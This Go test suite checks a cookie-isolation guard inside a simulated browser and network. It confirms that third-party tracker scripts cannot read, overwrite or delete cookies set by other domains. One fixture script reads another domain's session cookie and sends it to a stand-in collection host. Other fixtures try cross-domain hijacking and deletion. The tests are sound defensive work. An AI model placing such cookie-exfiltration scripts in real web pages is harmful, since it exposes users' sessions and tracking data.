package guard

import (
	"fmt"
	"math/rand/v2"
	"net/http"
	"strings"
	"sync"
	"testing"

	"cookieguard/internal/browser"
	"cookieguard/internal/entity"
	"cookieguard/internal/jsdsl"
	"cookieguard/internal/netsim"
)

// guardedWeb builds a test site with setter/reader scripts from different
// tracker domains plus a site-owner script.
func guardedWeb(extra map[string]string) *netsim.Internet {
	in := netsim.New()
	in.RegisterFunc("www.shop.example", func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/":
			http.SetCookie(w, &http.Cookie{Name: "srv_pref", Value: "longvalue12345678"})
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, extra["__html__"])
		case "/own.js":
			fmt.Fprint(w, extra["__own__"])
		default:
			http.NotFound(w, r)
		}
	})
	byHost := map[string]map[string]string{}
	for url, body := range extra {
		if strings.HasPrefix(url, "__") {
			continue
		}
		u := strings.TrimPrefix(url, "https://")
		slash := strings.IndexByte(u, '/')
		host, path := u[:slash], u[slash:]
		if byHost[host] == nil {
			byHost[host] = map[string]string{}
		}
		byHost[host][path] = body
	}
	for host, paths := range byHost {
		ps := paths
		in.RegisterFunc(host, func(w http.ResponseWriter, r *http.Request) {
			if b, ok := ps[r.URL.Path]; ok {
				fmt.Fprint(w, b)
				return
			}
			http.NotFound(w, r)
		})
	}
	in.RegisterFunc("collect.example", func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusNoContent)
	})
	return in
}

// visitWithGuard loads the page with a fresh guard and returns both.
func visitWithGuard(t *testing.T, in *netsim.Internet, policy Policy) (*Guard, *browser.Browser, *browser.Page) {
	t.Helper()
	g := New(policy)
	b, err := browser.New(browser.Options{
		Internet:         in,
		CookieMiddleware: []browser.CookieMiddleware{g.Middleware()},
	})
	if err != nil {
		t.Fatal(err)
	}
	g.AttachBrowser(b)
	p, err := b.Visit("https://www.shop.example/")
	if err != nil {
		t.Fatal(err)
	}
	return g, b, p
}

const crossReadHTML = `<html><head>
<script src="https://setter.example/s.js"></script>
<script src="https://reader.example/r.js"></script>
<script src="/own.js"></script>
</head><body></body></html>`

func crossReadScripts() map[string]string {
	return map[string]string{
		"__html__":                    crossReadHTML,
		"https://setter.example/s.js": `set_cookie("_sid", "secretvalue1234567");`,
		"https://reader.example/r.js": `
let v = get_cookie("_sid");
if (v != null) { send("https://collect.example/x", {"sid": v}); }
let mine = get_cookie("_rdr");
if (mine == null) { set_cookie("_rdr", "readerown123456"); }
let back = get_cookie("_rdr");
if (back != null) { set_cookie("_rdr_visible", "1"); }
let srv = get_cookie("srv_pref");
if (srv != null) { set_cookie("_saw_srv", "1"); }`,
		"__own__": `
let all = get_all_cookies();
if (has(all, "_sid") && has(all, "_rdr") && has(all, "srv_pref")) {
  set_cookie("owner_sees_all", "1");
}`,
	}
}

func TestCrossDomainReadBlocked(t *testing.T) {
	g, b, p := visitWithGuard(t, guardedWeb(crossReadScripts()), DefaultPolicy())
	_ = p
	site := "https://www.shop.example/"

	// reader.example must not have seen setter.example's cookie.
	for _, r := range p.Requests {
		if strings.Contains(r.URL, "collect.example") && strings.Contains(r.URL, "secretvalue") {
			t.Fatal("cross-domain cookie exfiltrated despite guard")
		}
	}
	// But its own cookie remains visible.
	if b.Jar().Get(site, "_rdr_visible") == nil {
		t.Fatal("script cannot see its own cookie")
	}
	// And the server's first-party cookie is hidden from it.
	if b.Jar().Get(site, "_saw_srv") != nil {
		t.Fatal("third-party script saw HTTP first-party cookie")
	}
	// The filter decisions are logged.
	var reads int
	for _, ev := range g.Blocks() {
		if ev.Kind == BlockRead {
			reads++
		}
	}
	if reads == 0 {
		t.Fatal("no read-filter events logged")
	}
}

func TestSiteOwnerFullAccess(t *testing.T) {
	_, b, _ := visitWithGuard(t, guardedWeb(crossReadScripts()), DefaultPolicy())
	if b.Jar().Get("https://www.shop.example/", "owner_sees_all") == nil {
		t.Fatal("site-owner script must see all first-party cookies (§6.1)")
	}
}

func TestOwnerFullAccessDisabled(t *testing.T) {
	pol := DefaultPolicy()
	pol.OwnerFullAccess = false
	_, b, _ := visitWithGuard(t, guardedWeb(crossReadScripts()), pol)
	if b.Jar().Get("https://www.shop.example/", "owner_sees_all") != nil {
		t.Fatal("owner full access should be disabled")
	}
}

func TestCrossDomainOverwriteBlocked(t *testing.T) {
	scripts := map[string]string{
		"__html__":                    crossReadHTML,
		"https://setter.example/s.js": `set_cookie("_tid", "original12345678");`,
		"https://reader.example/r.js": `set_cookie("_tid", "hijacked99999999");`,
		"__own__":                     `let x = 1;`,
	}
	g, b, _ := visitWithGuard(t, guardedWeb(scripts), DefaultPolicy())
	c := b.Jar().Get("https://www.shop.example/", "_tid")
	if c == nil || c.Value != "original12345678" {
		t.Fatalf("cookie = %+v; cross-domain overwrite must be blocked", c)
	}
	found := false
	for _, ev := range g.Blocks() {
		if ev.Kind == BlockWrite && ev.Name == "_tid" &&
			ev.Accessor == "reader.example" && ev.Creator == "setter.example" {
			found = true
		}
	}
	if !found {
		t.Fatalf("write block not logged: %+v", g.Blocks())
	}
}

func TestCrossDomainDeleteBlocked(t *testing.T) {
	scripts := map[string]string{
		"__html__":                    crossReadHTML,
		"https://setter.example/s.js": `set_cookie("_tid", "original12345678");`,
		"https://reader.example/r.js": `delete_cookie("_tid");`,
		"__own__":                     `let x = 1;`,
	}
	g, b, _ := visitWithGuard(t, guardedWeb(scripts), DefaultPolicy())
	if b.Jar().Get("https://www.shop.example/", "_tid") == nil {
		t.Fatal("cross-domain delete must be blocked")
	}
	found := false
	for _, ev := range g.Blocks() {
		if ev.Kind == BlockDelete && ev.Name == "_tid" {
			found = true
		}
	}
	if !found {
		t.Fatalf("delete block not logged: %+v", g.Blocks())
	}
}

func TestSameDomainOverwriteAllowed(t *testing.T) {
	scripts := map[string]string{
		"__html__": `<html><head>
<script src="https://setter.example/s.js"></script>
<script src="https://setter.example/s2.js"></script>
</head><body></body></html>`,
		"https://setter.example/s.js":  `set_cookie("_tid", "original12345678");`,
		"https://setter.example/s2.js": `set_cookie("_tid", "updated000000000");`,
		"__own__":                      ``,
	}
	_, b, _ := visitWithGuard(t, guardedWeb(scripts), DefaultPolicy())
	c := b.Jar().Get("https://www.shop.example/", "_tid")
	if c == nil || c.Value != "updated000000000" {
		t.Fatalf("same-domain overwrite should pass: %+v", c)
	}
}

func TestInlineStrictDenied(t *testing.T) {
	scripts := map[string]string{
		"__html__": `<html><head>
<script src="https://setter.example/s.js"></script>
<script>
let v = get_cookie("_sid");
if (v == null) { doc_set_cookie("inline_probe=1"); }
</script>
</head><body></body></html>`,
		"https://setter.example/s.js": `set_cookie("_sid", "secretvalue1234567");`,
		"__own__":                     ``,
	}
	g, b, _ := visitWithGuard(t, guardedWeb(scripts), DefaultPolicy())
	// Strict mode: the inline read returned nothing AND the write was
	// denied too.
	if b.Jar().Get("https://www.shop.example/", "inline_probe") != nil {
		t.Fatal("inline write should be denied in strict mode")
	}
	var inline int
	for _, ev := range g.Blocks() {
		if ev.Kind == BlockInline {
			inline++
		}
	}
	if inline < 2 {
		t.Fatalf("inline denials = %d, want ≥ 2", inline)
	}
}

func TestInlineRelaxedTreatedFirstParty(t *testing.T) {
	scripts := map[string]string{
		"__html__": `<html><head>
<script src="https://setter.example/s.js"></script>
<script>
let v = get_cookie("_sid");
if (v != null) { set_cookie("inline_saw_it", "1"); }
</script>
</head><body></body></html>`,
		"https://setter.example/s.js": `set_cookie("_sid", "secretvalue1234567");`,
		"__own__":                     ``,
	}
	pol := DefaultPolicy()
	pol.Inline = InlineRelaxed
	_, b, _ := visitWithGuard(t, guardedWeb(scripts), pol)
	// Relaxed: inline behaves as the site owner → full access.
	if b.Jar().Get("https://www.shop.example/", "inline_saw_it") == nil {
		t.Fatal("relaxed inline should see all cookies")
	}
}

func TestEntityWhitelistGroupsDomains(t *testing.T) {
	scripts := map[string]string{
		"__html__": `<html><head>
<script src="https://setter.example/s.js"></script>
<script src="https://sibling.example/r.js"></script>
</head><body></body></html>`,
		"https://setter.example/s.js": `set_cookie("_tok", "sharedsecret12345");`,
		"https://sibling.example/r.js": `
let v = get_cookie("_tok");
if (v != null) { set_cookie("sibling_ok", "1"); }`,
		"__own__": ``,
	}

	// Without whitelist: blocked.
	_, b, _ := visitWithGuard(t, guardedWeb(scripts), DefaultPolicy())
	if b.Jar().Get("https://www.shop.example/", "sibling_ok") != nil {
		t.Fatal("cross-domain read should be blocked without whitelist")
	}

	// With a whitelist grouping the two domains: allowed (§7.2).
	ents := entity.NewMap(map[string][]string{
		"PairCo": {"setter.example", "sibling.example"},
	})
	_, b2, _ := visitWithGuard(t, guardedWeb(scripts), WhitelistPolicy(ents))
	if b2.Jar().Get("https://www.shop.example/", "sibling_ok") == nil {
		t.Fatal("same-entity read should be allowed with whitelist")
	}
}

func TestWhitelistExtendsSiteOwnership(t *testing.T) {
	// The facebook.com/fbcdn.net case: a script from the site's CDN
	// sibling gets owner access under the whitelist.
	scripts := map[string]string{
		"__html__": `<html><head>
<script src="/own.js"></script>
<script src="https://shop-cdn.example/w.js"></script>
</head><body></body></html>`,
		"__own__": `set_cookie("widget_state", "boot12345678");`,
		"https://shop-cdn.example/w.js": `
let st = get_cookie("widget_state");
if (st != null) { set_cookie("chat_ready", "1"); }`,
	}

	_, b, _ := visitWithGuard(t, guardedWeb(scripts), DefaultPolicy())
	if b.Jar().Get("https://www.shop.example/", "chat_ready") != nil {
		t.Fatal("CDN sibling should be blocked without whitelist")
	}

	ents := entity.NewMap(map[string][]string{
		"ShopCo": {"shop.example", "shop-cdn.example"},
	})
	_, b2, _ := visitWithGuard(t, guardedWeb(scripts), WhitelistPolicy(ents))
	if b2.Jar().Get("https://www.shop.example/", "chat_ready") == nil {
		t.Fatal("whitelisted CDN sibling should boot")
	}
}

func TestCookieStoreFiltering(t *testing.T) {
	scripts := map[string]string{
		"__html__": `<html><head>
<script src="https://setter.example/s.js"></script>
<script src="https://reader.example/r.js"></script>
</head><body></body></html>`,
		"https://setter.example/s.js": `cookiestore_set("keep_alive", "val123456789", {"max_age": 600});`,
		"https://reader.example/r.js": `
let c = cookiestore_get("keep_alive");
if (c == null) { set_cookie("cs_hidden", "1"); }
let all = cookiestore_get_all();
let sawForeign = false;
for (rec in all) {
  if (rec["name"] == "keep_alive") { sawForeign = true; }
}
if (!sawForeign) { set_cookie("cs_all_filtered", "1"); }
cookiestore_delete("keep_alive");`,
		"__own__": ``,
	}
	_, b, _ := visitWithGuard(t, guardedWeb(scripts), DefaultPolicy())
	site := "https://www.shop.example/"
	if b.Jar().Get(site, "cs_hidden") == nil {
		t.Fatal("cookieStore.get should be filtered")
	}
	if b.Jar().Get(site, "cs_all_filtered") == nil {
		t.Fatal("cookieStore.getAll should be filtered")
	}
	if b.Jar().Get(site, "keep_alive") == nil {
		t.Fatal("cookieStore.delete should be blocked")
	}
}

func TestHTTPCookieOwnedBySite(t *testing.T) {
	// srv_pref is set by the site's server; third parties must not see
	// it, while the site script does (checked in TestSiteOwnerFullAccess
	// via owner_sees_all).
	g, _, _ := visitWithGuard(t, guardedWeb(crossReadScripts()), DefaultPolicy())
	// The dataset learned srv_pref's creator from the Set-Cookie header.
	if got, _ := g.creator("srv_pref"); got != "shop.example" {
		t.Fatalf("srv_pref creator = %q", got)
	}
}

func TestPerOpOverheadCharged(t *testing.T) {
	// Compare two guarded visits differing only in per-op cost, so
	// blocking side effects (skipped beacons change network time too)
	// are held constant.
	scripts := crossReadScripts()
	in := guardedWeb(scripts)

	slow := DefaultPolicy()
	slow.PerOpOverheadMS = 5
	_, _, pSlow := visitWithGuard(t, in, slow)

	free := DefaultPolicy()
	free.PerOpOverheadMS = 0
	_, _, pFree := visitWithGuard(t, in, free)

	if pSlow.Timing.LoadEvent <= pFree.Timing.LoadEvent {
		t.Fatalf("guard overhead missing: slow=%v free=%v",
			pSlow.Timing.LoadEvent, pFree.Timing.LoadEvent)
	}
}

// TestBackgroundRoundTrip: the Background dataset records each
// cookie's first creator and answers lookups from it.
func TestBackgroundRoundTrip(t *testing.T) {
	g := New(DefaultPolicy())
	if _, exists := g.claim("uid", "tracker.example"); exists {
		t.Fatal("first claim reported an existing creator")
	}
	if prev, exists := g.claim("uid", "other.example"); !exists || prev != "tracker.example" {
		t.Fatalf("second claim = %q,%v; want tracker.example,true", prev, exists)
	}
	g.claim("sess", "site.example")
	if c, ok := g.creator("uid"); !ok || c != "tracker.example" {
		t.Fatalf("creator(uid) = %q,%v; want tracker.example,true (first creator wins)", c, ok)
	}
	if c, ok := g.creator("sess"); !ok || c != "site.example" {
		t.Fatalf("creator(sess) = %q,%v", c, ok)
	}
	if _, ok := g.creator("missing"); ok {
		t.Fatal("creator(missing) reported existence")
	}
}

// TestGuardConcurrentOperations drives one Guard's dataset, filter and
// block log from several goroutines; it is meaningful under the race
// detector, which CI runs on this package.
func TestGuardConcurrentOperations(t *testing.T) {
	g := New(DefaultPolicy())
	var wg sync.WaitGroup
	for w := 0; w < 4; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			accessor := fmt.Sprintf("t%d.example", w)
			for i := 0; i < 200; i++ {
				g.claim(fmt.Sprintf("c%d", i%17), accessor)
				g.creator("c3")
				g.filterDocumentCookie("c1=a; c2=b; c3=c", accessor, "shop.example")
				g.Blocks()
			}
		}(w)
	}
	wg.Wait()
}

// referenceFilter is the document.cookie filter as first written: parse
// into fresh containers, render the kept pairs, join. The buffered
// filter must match it byte for byte.
func referenceFilter(g *Guard, raw, accessor, site string) (string, bool) {
	names, values := jsdsl.ParseCookieString(raw)
	var kept []string
	filtered := false
	for _, n := range names {
		creator, _ := g.creator(n)
		if g.mayAccess(accessor, creator, site) {
			kept = append(kept, n+"="+values[n])
		} else {
			filtered = true
		}
	}
	return strings.Join(kept, "; "), filtered
}

func TestDocumentCookieFilterMatchesReference(t *testing.T) {
	g := New(DefaultPolicy())
	const site, accessor = "shop.example", "tracker.example"
	g.claim("mine", accessor)
	g.claim("dup", accessor)
	g.claim("other", "rival.example")
	g.claim("_ga", "rival.example")
	inputs := []string{
		"",
		";",
		" ; ;  ",
		"mine=1",
		"mine=1; other=2",
		"other=2",
		"dup=1; dup=2",
		"dup=1; other=x; dup=3",
		"  mine  =  spaced value  ;other= 2 ",
		"mine=a=b==c; other=x=y",
		"=nameless; mine=1; =; bare; other",
		"site_pref=1; mine=2", // unattributed: site-owned, hidden from trackers
		"mine=; dup=",
		"mine=1;;;dup=2;",
		"_ga=GA1.1.1.2; mine=v; _ga=GA1.2.3.4",
	}
	// Generated inputs over a small alphabet hit every combination of
	// the separators, duplicates and empty segments above.
	rng := rand.New(rand.NewPCG(1, 2))
	parts := []string{"mine", "dup", "other", "new", "=", ";", " ", "v", "=v", "; ", "_ga="}
	for i := 0; i < 2000; i++ {
		var sb strings.Builder
		for j := rng.IntN(8); j >= 0; j-- {
			sb.WriteString(parts[rng.IntN(len(parts))])
		}
		inputs = append(inputs, sb.String())
	}
	var got []string
	for _, raw := range inputs {
		blocksBefore := len(g.Blocks())
		out := g.filterDocumentCookie(raw, accessor, site)
		want, filtered := referenceFilter(g, raw, accessor, site)
		if out != want {
			t.Fatalf("filter(%q) = %q, reference %q", raw, out, want)
		}
		if logged := len(g.Blocks()) > blocksBefore; logged != filtered {
			t.Fatalf("filter(%q) logged a block: %v, reference filtered: %v", raw, logged, filtered)
		}
		got = append(got, out)
	}
	// Results must not alias the reused buffer: later reads leave
	// earlier strings intact.
	for i, raw := range inputs {
		if want, _ := referenceFilter(g, raw, accessor, site); got[i] != want {
			t.Fatalf("result for %q changed after later reads: %q, want %q", raw, got[i], want)
		}
	}
	// A repeated name collapses to its last value on the guarded path.
	if out := g.filterDocumentCookie("dup=1; dup=2", accessor, site); out != "dup=2" {
		t.Fatalf("guarded read of a repeated name = %q, want dup=2", out)
	}
}

func TestAssignmentHelpers(t *testing.T) {
	if assignmentName("a=1; Path=/") != "a" || assignmentName("=bad") != "" {
		t.Fatal("assignmentName broken")
	}
	if !isDeletion("a=; Max-Age=0") || !isDeletion("a=; Max-Age=-1") {
		t.Fatal("isDeletion should detect expiry idioms")
	}
	if isDeletion("a=1; Max-Age=600") || isDeletion("a=1") {
		t.Fatal("isDeletion false positives")
	}
}
